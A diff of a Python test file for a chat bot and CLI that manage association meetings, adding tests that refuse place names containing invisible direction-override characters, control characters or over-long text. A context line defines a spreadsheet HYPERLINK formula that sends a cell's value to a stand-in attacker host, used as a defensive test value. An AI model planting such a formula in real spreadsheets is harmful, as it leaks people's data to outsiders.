@@ -18,9 +18,12 @@ import yaml
 
 from bot.storage.roster import EXAMPLE_ROSTER, RosterError, validate_roster
 from kkrcore.dataset import load_dataset
+from tests.conftest import RunningBot
+from tests.fake_telegram import SentMessage
 from tests.test_cli import kkrbot
 from tests.test_secretariat_views import console_absence
 
+SECRETARY = 8201
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Pia")'
 
 
@@ -30,6 +33,10 @@ def umask_022() -> Iterator[None]:
     previous = os.umask(0o022)
     yield
     os.umask(previous)
+
+
+def plain(message: SentMessage) -> str:
+    return message.plain_text or ""
 
 
 def mode(path: Path) -> int:
@@ -195,3 +202,38 @@ def test_the_cli_refuses_an_override_with_one_line_naming_the_row(tmp_path: Path
     assert result.returncode == 2
     assert result.stderr.count("\n") == 1
     assert f"row {row_of('a-medlem-2')} (a-medlem-2): name: character 5 is U+202E" in result.stderr
+
+
+# --- a meeting's place and address, typed in the chat or given to the CLI ---------------------------------------
+
+
+async def test_a_place_with_an_override_is_refused_in_the_secretarys_language(kkrbot: RunningBot) -> None:
+    await kkrbot.bind(SECRETARY, "sekretariat-1")
+
+    danish = await kkrbot.ask(SECRETARY, "/moede flyt 12.02 Hjørring \u202eRådhus")
+    await kkrbot.ask(SECRETARY, "/sprog en")
+    english = await kkrbot.ask(SECRETARY, "/meeting move 12.02 Hjørring, Town\u2066Hall")
+
+    assert plain(danish) == (
+        "Tegn nummer 10 (U+202E RIGHT-TO-LEFT OVERRIDE) er et usynligt formateringstegn (det kan ændre, hvordan "
+        "teksten vises), og det kan et sted eller en adresse ikke indeholde. Fjern det, og prøv igen."
+    )
+    assert plain(english).startswith("Character 5 (U+2066 LEFT-TO-RIGHT ISOLATE) is an invisible formatting")
+    # No preview, nothing to send.
+    assert not danish.buttons
+    assert not english.buttons
+
+
+def test_the_cli_refuses_a_place_of_more_than_200_characters(tmp_path: Path) -> None:
+    """(The chat reads at most 200 characters of a whole command, so only the CLI can be given a longer place.)"""
+    result = kkrbot(tmp_path, "meeting", "move", "12.02.2027", "--place", "H" * 201)
+
+    assert result.returncode == 2
+    assert result.stderr == "kkrbot: --place: too long: 201 characters, at most 200\n"
+
+
+def test_the_cli_refuses_a_place_with_a_control_character_in_one_line(tmp_path: Path) -> None:
+    result = kkrbot(tmp_path, "meeting", "move", "12.02.2027", "--place", "Aalborg\u0007")
+
+    assert result.returncode == 2
+    assert result.stderr == "kkrbot: --place: character 8 is U+0007, a control character (Cc); remove it\n"
